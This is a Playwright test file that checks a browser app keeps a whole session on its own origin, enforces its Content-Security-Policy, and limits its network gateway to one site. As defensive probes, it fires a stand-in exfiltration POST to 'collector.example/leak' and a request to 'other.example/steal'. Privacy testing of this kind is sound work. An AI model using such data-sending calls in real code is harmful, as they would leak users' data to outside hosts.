/**
 * Privacy: a whole session — paste a product page, write scripts, build and play the preview,
 * export and download, make a photo avatar — while every request that would leave the app's own origin is blocked
 * and recorded, and every Content-Security-Policy violation (pages, frames, workers) is
 * collected. Both lists must stay empty; and the policy itself must really be in force.
 */
import { expect, test, type Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { portrait } from './fixtures/faces.ts';
import { addExampleImages, writeAndPreview } from './flow.ts';
import { ffprobe } from './media.ts';

const fixture = (name: string) => readFileSync(fileURLToPath(new URL(`../src/product/fixtures/${name}`, import.meta.url)), 'utf8');

/** CSP violations reported to the page's script, from any frame, and any "Refused to …" console line (workers). */
async function watchPolicy(page: Page): Promise<string[]> {
  const seen: string[] = [];
  await page.exposeFunction('__reportViolation', (v: string) => seen.push(v));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as unknown as { __reportViolation: (v: string) => void }).__reportViolation(`${e.effectiveDirective} blocked ${e.blockedURI} (${e.sourceFile}:${e.lineNumber})`);
    });
  });
  page.on('console', (m) => {
    if (/Content Security Policy|Refused to/i.test(m.text())) seen.push(`console: ${m.text()}`);
  });
  return seen;
}

test('a full session stays on the app’s own origin with zero policy violations', async ({ page, context, baseURL }, testInfo) => {
  const origin = new URL(baseURL!).origin;
  const outside: string[] = [];
  await context.route('**/*', (route) => {
    const url = route.request().url();
    if (new URL(url).origin === origin) return route.continue();
    outside.push(url);
    return route.abort('blockedbyclient');
  });
  const violations = await watchPolicy(page);

  const response = await page.goto('/');
  // The policy is delivered both ways: header (reaches workers) and <meta> (any static host).
  const header = response!.headers()['content-security-policy'] ?? '';
  expect(header).toContain("connect-src 'self' blob: data:");
  expect(header).toContain("script-src 'self' 'wasm-unsafe-eval'");
  expect(header).toContain("frame-ancestors 'self'");
  expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toContain("connect-src 'self'");

  // Product from a pasted page: parsing requests nothing.
  await page.getByTestId('import-tab-source').click();
  await page.getByTestId('import-source').fill(fixture('shopify-kettle.html'));
  await page.getByTestId('import-parse-source').click();
  await expect(page.getByTestId('product-name')).toHaveValue('Aurora Pour-Over Kettle');
  await addExampleImages(page);

  // Scripts, voice, preview, export, download.
  await writeAndPreview(page);
  await page.getByTestId('export').click();
  await expect(page.getByTestId('export-done')).toBeVisible({ timeout: 180_000 });
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('download').click()]);
  const file = testInfo.outputPath('private.mp4');
  await download.saveAs(file);
  expect(ffprobe(file).streams.map((s) => s.codec_name).sort()).toEqual(['aac', 'h264']);

  // A photo avatar: face detection (onnxruntime-web, BlazeFace), the self-check, the talking
  // preview, saved to the library — all from the app's own files.
  await page.goto('/#/avatars');
  await page.getByRole('radio', { name: /A photo/ }).click();
  await page.getByTestId('avatar-file').setInputFiles(portrait('man'));
  await expect(page.getByTestId('check-report')).toHaveAttribute('data-status', 'pass', { timeout: 90_000 });
  await expect(page.getByTestId('avatar-talk')).toHaveAttribute('data-state', /ready|playing/, { timeout: 60_000 });
  await page.getByTestId('avatar-name').fill('Private');
  await page.getByTestId('avatar-save').click();
  await expect(page.getByTestId('avatar-card')).toHaveCount(1);

  expect(outside).toEqual([]);
  expect(violations).toEqual([]);

  // The policy is not decoration: a script on the page cannot reach another site, even one the
  // route above would let through, and the attempt is reported.
  const attempt = await page.evaluate(() => fetch('https://collector.example/leak', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused'));
  expect(attempt).toBe('refused');
  await expect.poll(() => violations.some((v) => v.includes('connect-src') && v.includes('collector.example'))).toBe(true);
  expect(outside).toEqual([]);
});

test('requests the user asks for go through a one-site gateway; nothing else can use it', async ({ page }) => {
  const violations = await watchPolicy(page);
  await page.route('https://shop.example/**', (route) => route.fulfill({ body: 'hello from the shop', contentType: 'text/plain', headers: { 'access-control-allow-origin': '*' } }));
  await page.route('https://other.example/**', (route) => route.fulfill({ body: 'should never be read', headers: { 'access-control-allow-origin': '*' } }));
  await page.goto('/');
  // Speak the gateway's protocol directly, as src/net/external-fetch.ts does: one frame per site.
  const text = await page.evaluate(async () => {
    const frame = document.createElement('iframe');
    frame.src = '/net.html#origin=https%3A%2F%2Fshop.example';
    document.body.append(frame);
    await new Promise<void>((r) => addEventListener('message', (e) => e.data?.type === 'gateway-ready' && r(), { once: true }));
    const ask = (url: string) =>
      new Promise<string>((resolve) => {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = async (e) => resolve(e.data.type === 'error' ? `error: ${e.data.message}` : await new Response(e.data.body).text());
        frame.contentWindow!.postMessage({ type: 'fetch', url, method: 'GET', headers: [], body: null, redirect: 'follow', referrerPolicy: 'no-referrer' }, location.origin, [port2]);
      });
    return [await ask('https://shop.example/products/kettle'), await ask('https://other.example/steal')];
  });
  expect(text[0]).toBe('hello from the shop');
  expect(text[1]).toBe('error: This gateway only reaches https://shop.example.');
  expect(violations).toEqual([]);
});
